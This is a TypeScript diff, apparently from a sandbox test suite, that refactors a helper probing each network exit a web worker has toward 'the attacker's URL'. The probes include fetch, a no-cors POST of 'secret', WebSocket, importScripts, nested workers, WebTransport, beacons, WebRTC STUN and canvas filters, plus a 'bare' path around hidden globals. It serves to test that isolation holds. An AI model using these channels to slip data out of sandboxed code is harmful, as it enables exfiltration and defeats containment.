@@ -1,10 +1,66 @@
+/** What tries each way to the network that a worker has, to the attacker's URL. */
+const waysTo = (to: string): ReadonlyMap<string, string> =>
+  new Map([
+    ['fetch', `() => fetch.call(self, '${to}/fetch')`],
+    [
+      'fetch without CORS',
+      `() => fetch.call(self, '${to}/opaque', { mode: 'no-cors', method: 'POST', body: 'secret' })`,
+    ],
+    ['fetch kept alive', `() => fetch.call(self, '${to}/keepalive', { keepalive: true })`],
+    [
+      'xhr',
+      `() => { const request = new XMLHttpRequest(); request.open('GET', '${to}/xhr', false); request.send(); }`,
+    ],
+    [
+      'socket',
+      `() => settled(new WebSocket('${to.replace('http', 'ws')}/socket'), 'error', 'close')`,
+    ],
+    [
+      'events',
+      `() => { const source = new EventSource('${to}/events'); return settled(source, 'error').finally(() => source.close()); }`,
+    ],
+    ['import', `() => (0, eval)("import('${to}/import')")`],
+    ['importScripts', `() => importScripts.call(self, '${to}/importScripts')`],
+    ['font', `() => new FontFace('x', 'url(${to}/font)').load()`],
+    ['worker', `() => inWorker('${to}/worker')`],
+    ['nested data worker', `() => inWorker(asData(sendsFrom('nestedData')))`],
+    ['nested blob worker', `() => inWorker(asBlob(sendsFrom('nestedBlob')))`],
+    [
+      'script of a nested worker',
+      `() => inWorker(asData("importScripts('${to}/nestedScript'); postMessage(1)"))`,
+    ],
+    ['wasm', `() => WebAssembly.compileStreaming(fetch.call(self, '${to}/wasm'))`],
+    ['cache', `async () => (await caches.open('x')).add('${to}/cache')`],
+    ['transport', `() => new WebTransport('${to.replace('http:', 'https:')}/transport').ready`],
+    ['beacon', `() => navigator.sendBeacon('${to}/beacon')`],
+    [
+      'peer',
+      `() => new RTCPeerConnection({ iceServers: [{ urls: '${to.replace('http://', 'stun:')}' }] })`,
+    ],
+    [
+      'canvas filter',
+      `() => {
+  const context = new OffscreenCanvas(4, 4).getContext('2d');
+  context.filter = 'url(${to}/filter#f)';
+  context.fillRect(0, 0, 4, 4);
+}`,
+    ],
+    ['navigation', `() => { location.href = '${to}/navigation'; }`],
+    ['window', `() => self.clients.openWindow('${to}/window')`],
+  ]);
+
+/** The ways' names. */
+export const WAYS: readonly string[] = [...waysTo('').keys()];
+
 /**
- * A cell that tries every way to the network that a worker has, each waited for until it has failed or
- * gone; its value tells a line a way. With `bare` at hand it goes round what hides the ways.
+ * A cell that tries ways to the network, each waited for until it has failed or gone; its value tells a line a way.
+ * With `bare` at hand it goes round what hides the ways.
  *
  * @param to the attacker's URL, without a slash at the end
+ * @param names of the ways; all of them unless told
  */
-export function waysOut(to: string): string {
+export function waysOut(to: string, names = WAYS): string {
+  const ways = waysTo(to);
   return `await (async () => {
 const { ${HIDDEN.join(', ')} } = self.bare ?? self;
 const tried = [];
@@ -20,31 +76,7 @@ const inWorker = (url) => { const made = new Worker(url); return settled(made, '
 const asData = (code) => 'data:text/javascript,' + encodeURIComponent(code);
 const asBlob = (code) => URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
 const sendsFrom = (name) => "fetch('${to}/" + name + "').then(() => postMessage(1), () => { throw new Error('refused') });";
-await attempt('fetch', () => fetch.call(self, '${to}/fetch'));
-await attempt('fetch without CORS', () => fetch.call(self, '${to}/opaque', { mode: 'no-cors', method: 'POST', body: 'secret' }));
-await attempt('fetch kept alive', () => fetch.call(self, '${to}/keepalive', { keepalive: true }));
-await attempt('xhr', () => { const request = new XMLHttpRequest(); request.open('GET', '${to}/xhr', false); request.send(); });
-await attempt('socket', () => settled(new WebSocket('${to.replace('http', 'ws')}/socket'), 'error', 'close'));
-await attempt('events', () => { const source = new EventSource('${to}/events'); return settled(source, 'error').finally(() => source.close()); });
-await attempt('import', () => (0, eval)("import('${to}/import')"));
-await attempt('importScripts', () => importScripts.call(self, '${to}/importScripts'));
-await attempt('font', () => new FontFace('x', 'url(${to}/font)').load());
-await attempt('worker', () => inWorker('${to}/worker'));
-await attempt('nested data worker', () => inWorker(asData(sendsFrom('nestedData'))));
-await attempt('nested blob worker', () => inWorker(asBlob(sendsFrom('nestedBlob'))));
-await attempt('script of a nested worker', () => inWorker(asData("importScripts('${to}/nestedScript'); postMessage(1)")));
-await attempt('wasm', () => WebAssembly.compileStreaming(fetch.call(self, '${to}/wasm')));
-await attempt('cache', async () => (await caches.open('x')).add('${to}/cache'));
-await attempt('transport', () => new WebTransport('${to.replace('http:', 'https:')}/transport').ready);
-await attempt('beacon', () => navigator.sendBeacon('${to}/beacon'));
-await attempt('peer', () => new RTCPeerConnection({ iceServers: [{ urls: '${to.replace('http://', 'stun:')}' }] }));
-await attempt('canvas filter', () => {
-  const context = new OffscreenCanvas(4, 4).getContext('2d');
-  context.filter = 'url(${to}/filter#f)';
-  context.fillRect(0, 0, 4, 4);
-});
-await attempt('navigation', () => { location.href = '${to}/navigation'; });
-await attempt('window', () => self.clients.openWindow('${to}/window'));
+${names.map((name) => `await attempt('${name}', ${ways.get(name)});`).join('\n')}
 return tried.join('\\n');
 })()`;
 }
